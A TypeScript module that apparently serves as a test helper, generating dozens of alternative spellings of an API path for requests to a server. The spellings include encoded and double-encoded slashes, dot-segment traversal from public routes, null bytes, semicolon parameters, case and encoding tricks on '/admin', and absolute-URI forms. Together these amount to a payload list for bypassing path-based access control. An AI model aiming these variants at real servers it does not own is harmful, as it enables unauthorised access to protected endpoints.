/** Alternative spellings of a path that some program has taken for the path itself, or for another one. */

export interface Trick {
  readonly name: string;
  readonly target: string;
}

/** Replacements for a slash. */
const separators = [
  "//",
  "/./",
  "/x/../",
  "/%2e/",
  "/x/%2e%2e/",
  "/x/.%2E/",
  "/x/..;/",
  "/;x/",
  ";x/",
  "%2f",
  "%2F",
  "%252f",
  "%5c",
  "\\",
  "/\\",
  "/%00/",
  "\u0000/",
  "/x%2f..%2f",
  "/x/%252e%252e/",
  "%c0%af",
];

/** Appended to the path. */
const endings = [
  "/",
  "//",
  "/.",
  "/x/..",
  "/%2e",
  ".json",
  ".html",
  ";x",
  ";.js",
  "%00",
  "%00.json",
  "\u0000",
  "%20",
  "%0a",
  "%",
  "#x",
  "/%2e%2e/",
  "~",
  "%3f",
  "%23",
];

/** Put before the path: a public one, and then back. */
const beginnings = [
  "/api/..",
  "/api/v1/config/../../..",
  "/api/v1/config/%2e%2e/%2e%2e/%2e%2e",
  "/healthz/..",
  "/healthz/%2e%2e",
  "/healthz;",
  "/healthz%2f..",
  "/readyz/../",
  "/openapi.json/..",
  "/openapi.json/%2e%2e",
  "/feeds/..",
  "/sign-in/..",
  "/docs/..",
  "/docs/%2e%2e",
  "/.",
  "/..",
  "/%2e",
  "/",
  "\\",
  "/;",
  "/x/..",
];

/** @param authority host and port of the server */
export function tricksOf(path: string, authority: string): Trick[] {
  const slashes = [...path.matchAll(/\//g)].map(({ index }) => index);
  // The first, the one after the version, and the last: the same loop reads those in between.
  const chosen = new Set([slashes[0], slashes[2], slashes.at(-1)].filter((at) => at !== undefined));
  return [
    ...[...chosen].flatMap((at) => separators.map((text) => path.slice(0, at) + text + path.slice(at + 1))),
    ...endings.map((text) => path + text),
    ...beginnings.map((text) => text + path),
    ...otherSpellings(path),
    ...absolute(path, authority),
  ].map((target) => ({ name: JSON.stringify(target), target }));
}

function otherSpellings(path: string): string[] {
  const escaped = (text: string) => [...text].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join("");
  return [
    path.toUpperCase(),
    path.replace("/admin", "/Admin"),
    path.replace("/v1", "/V1"),
    path.replace("/admin", "/%61dmin"),
    path.replace("/admin", "/%2561dmin"),
    path.replace("/admin", `/${escaped("admin")}`),
    path.replace("/v1", "/v%31"),
    path.replace("/admin", "/\u00e1dmin"),
    path.slice(1),
    path.replaceAll("/", "%2f"),
    path.replaceAll("/", "\\"),
    path.replace("/admin/v1", "/admin"),
    path.replace("/admin/v1", "/api/v1"),
    path.replace("/admin/v1", "/admin/v1/v1"),
  ].filter((target) => target !== path);
}

/** RFC 9112 §3.2.2: an absolute URL in place of a path. */
function absolute(path: string, authority: string): string[] {
  return [
    `http://${authority}${path}`,
    `HTTP://${authority}${path}`,
    `https://${authority}${path}`,
    `http://admin.example${path}`,
    `http://user:password@${authority}${path}`,
    `http://${authority}/api/..${path}`,
    `http://${authority}/%2e%2e${path}`,
    `http://${authority}/${path}`,
    `http:${path}`,
    `ftp://${authority}${path}`,
    `file://${path}`,
  ];
}
